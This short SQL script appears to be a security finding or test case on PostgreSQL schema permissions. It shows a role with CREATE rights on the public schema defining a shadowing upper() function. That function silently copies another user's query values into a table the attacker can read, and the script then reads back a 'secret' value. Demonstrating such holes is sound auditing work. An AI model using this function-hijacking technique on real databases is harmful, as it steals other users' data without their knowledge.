-- finding: schema-create schema public
GRANT CREATE ON SCHEMA public TO "alice@example.com";
-- first as postgres
DROP FUNCTION IF EXISTS public.upper(varchar);
CREATE SCHEMA IF NOT EXISTS bag; GRANT USAGE ON SCHEMA bag TO PUBLIC;
DROP TABLE IF EXISTS bag.taken; CREATE TABLE bag.taken (item text); GRANT ALL ON bag.taken TO PUBLIC;
-- first as alice@example.com
CREATE FUNCTION public.upper(item character varying) RETURNS text LANGUAGE plpgsql
  AS $$ BEGIN INSERT INTO bag.taken VALUES (item); RETURN item; END $$;
-- first as bob@example.com
SELECT upper(item::varchar) FROM shop.orders;
-- leak as alice@example.com
SELECT item FROM bag.taken WHERE item = 'secret';
